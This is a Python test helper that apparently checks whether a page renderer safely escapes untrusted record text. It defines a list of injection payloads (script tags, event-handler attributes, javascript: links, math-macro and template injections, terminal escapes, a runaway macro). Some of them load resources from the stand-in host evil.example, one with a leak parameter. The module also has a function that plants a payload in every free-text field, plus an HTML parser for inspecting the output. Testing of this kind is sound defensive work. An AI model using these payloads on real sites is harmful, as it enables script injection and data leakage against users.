"""Texts that try to act in a page, and a way to put one into every field of a record."""

import re
from html.parser import HTMLParser
from typing import TypeVar

from faithsieve.records.base import Record

PAYLOADS = (
    "<script>window.hit=1</script>",
    "</script><script>window.hit=1</script>",
    "<!--<script>",
    "</style><style>@import 'http://evil.example/x'</style>",
    '"><img src=x onerror=window.hit=1>',
    "' onmouseover='window.hit=1",
    "<svg/onload=window.hit=1><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<a href=javascript:window.hit=1>javascript:window.hit=1</a>",
    r"$\href{javascript:window.hit=1}{x}$",
    r"$\url{javascript:window.hit=1}$ $\includegraphics{http://evil.example/x.png}$",
    r"$\htmlClass{x\" onclick=\"window.hit=1}{y}$ $\htmlStyle{background:url(//evil.example)}{y}$",
    r"$\html{<img src=x onerror=window.hit=1>}$ \(</span><script>window.hit=1</script>\)",
    r"$\def\a{\a\a}\a$ $\rule{9999em}{9999em}$ $\frac{$ $" + "{" * 900 + "$",
    "![x](http://evil.example/?leak=1) [y](javascript:window.hit=1)",
    "{{ 7 * 7 }}{% include 'x' %}",
    "\x1b[2J\x1b]0;hit\x07\x00\u202egnp.exe",
    "&lt;script&gt;&#x3c;script&#x3e;",
    "]]></script>\u2028window.hit=1",
)

# The root of the tree, the name of what the problem gives, and values from a fixed list.
_FIXED = frozenset(
    {"", "0", "problem", "suspicion", "contradicted", "decompose", "warning", "error", "info"}
)

AnyRecord = TypeVar("AnyRecord", bound=Record)


def poison(record: AnyRecord, text: str) -> AnyRecord:
    """Put a text before every free text of a record, ids and digests included.

    Equal values stay equal, so that the parts still fit together.
    """
    return type(record).model_validate(_poisoned(record.model_dump(), text))


def _poisoned(value: object, text: str) -> object:
    if isinstance(value, dict):
        return {name: _poisoned(part, text) for name, part in value.items()}
    if isinstance(value, tuple | list):
        return tuple(_poisoned(part, text) for part in value)
    # Members of an enumeration are of their own type, so exactly the free texts are left.
    return text + value if type(value) is str and value not in _FIXED else value


class PageText(HTMLParser):
    """Collects the elements, attributes and scripts of a page."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.scripts: list[tuple[str | None, str]] = []
        self.words = ""
        self._inside = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))
        self._inside = tag
        if tag == "script":
            self.scripts.append((dict(attrs).get("type"), ""))

    def handle_endtag(self, tag: str) -> None:
        self._inside = ""

    def handle_data(self, data: str) -> None:
        if self._inside == "script":
            kind, text = self.scripts[-1]
            self.scripts[-1] = (kind, text + data)
        elif self._inside != "style":
            self.words += data

    def skeleton(self) -> list[tuple[str, tuple[str, ...]]]:
        """Elements and attribute names, without the spans around formulas and Lean tokens."""
        return [
            (tag, tuple(sorted(attributes)))
            for tag, attributes in self.elements
            if not re.match(r"formula|held|lean-", attributes.get("class", ""))
        ]
